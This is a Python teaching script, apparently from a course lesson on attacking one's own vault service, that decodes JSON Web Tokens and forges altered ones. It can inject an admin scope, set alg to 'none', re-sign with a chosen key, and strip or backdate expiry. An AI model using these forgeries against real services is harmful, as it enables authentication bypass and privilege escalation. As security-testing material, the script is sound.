"""Look inside a JWT and forge bad ones, to attack your own vault (lesson a10).

Give it the answer of `POST /token` saved in a file (or the token itself). It prints an
`Authorization: Bearer <token>` line for `curl -H`, or with --bare the token alone:

    python forge_token.py alice.json                  # the token as it is
    python forge_token.py alice.json --show           # its header and payload, decoded
    python forge_token.py alice.json --set scope="vault:read vault:write admin"
    python forge_token.py alice.json --alg none       # no signature at all
    python forge_token.py alice.json --sign some-other-key-of-at-least-32-bytes
    python forge_token.py alice.json --expired --sign "$JWT_SECRET_KEY"
    python forge_token.py alice.json --drop exp --sign "$JWT_SECRET_KEY"

Without --sign a changed token keeps its old signature, which no longer matches: a server
that checks signatures must refuse it. Only the standard library is used, so you can read
exactly how a token is built: base64url(header) . base64url(payload) . base64url(HMAC).
"""

from __future__ import annotations

import argparse
import base64
import binascii
import hashlib
import hmac
import json
import sys
import time
from datetime import UTC, datetime
from pathlib import Path


def b64url_encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def encode_json(value: dict) -> str:
    return b64url_encode(json.dumps(value, separators=(",", ":")).encode())


def hs256(header: str, payload: str, key: str) -> str:
    """The HS256 signature: HMAC-SHA256 over "header.payload" with the key."""
    mac = hmac.new(key.encode(), f"{header}.{payload}".encode(), hashlib.sha256)
    return b64url_encode(mac.digest())


def read_token(source: str) -> str:
    """The token in ``source``: a file holding the JSON answer of POST /token, or a token."""
    path = Path(source)
    if path.is_file():
        text = path.read_text(encoding="utf-8").strip()
        try:
            return json.loads(text)["access_token"]
        except (ValueError, KeyError, TypeError):
            return text  # a file holding just the token
    return source


def claim_value(text: str):
    """A claim given on the command line: JSON if it parses (5, true), else a string."""
    try:
        return json.loads(text)
    except ValueError:
        return text


def show(header: dict, payload: dict) -> None:
    print("header: ", json.dumps(header))
    print("payload:", json.dumps(payload))
    for claim in ("iat", "exp"):
        if isinstance(payload.get(claim), int | float):
            when = datetime.fromtimestamp(payload[claim], UTC)
            print(f"{claim} = {when:%Y-%m-%d %H:%M:%S} UTC")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("token", help="a file with the answer of POST /token, or a token")
    parser.add_argument("--show", action="store_true", help="print the decoded token")
    parser.add_argument("--bare", action="store_true", help="print only the token")
    parser.add_argument("--set", action="append", default=[], metavar="CLAIM=VALUE")
    parser.add_argument("--drop", action="append", default=[], metavar="CLAIM")
    parser.add_argument("--expired", action="store_true", help="exp 10 minutes ago")
    parser.add_argument("--alg", help='write this "alg" into the header ("none": unsigned)')
    parser.add_argument("--sign", metavar="KEY", help="sign again with KEY (HS256)")
    args = parser.parse_args(argv)

    try:
        header_part, payload_part, signature = read_token(args.token).split(".")
        header = json.loads(b64url_decode(header_part))
        payload = json.loads(b64url_decode(payload_part))
    except (ValueError, binascii.Error):
        parser.error("that is not a JWT (three base64url parts joined by dots)")

    if args.show:
        show(header, payload)
        return 0

    for item in args.set:
        claim, _, value = item.partition("=")
        payload[claim] = claim_value(value)
    for claim in args.drop:
        payload.pop(claim, None)
    if args.expired:
        now = int(time.time())
        payload.update(iat=now - 25 * 60, exp=now - 10 * 60)
    if args.set or args.drop or args.expired:
        payload_part = encode_json(payload)
    if args.alg:
        header["alg"] = args.alg
        header_part = encode_json(header)

    if args.alg and args.alg.lower() == "none":
        signature = ""
    elif args.sign:
        signature = hs256(header_part, payload_part, args.sign)
    token = f"{header_part}.{payload_part}.{signature}"
    print(token if args.bare else f"Authorization: Bearer {token}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
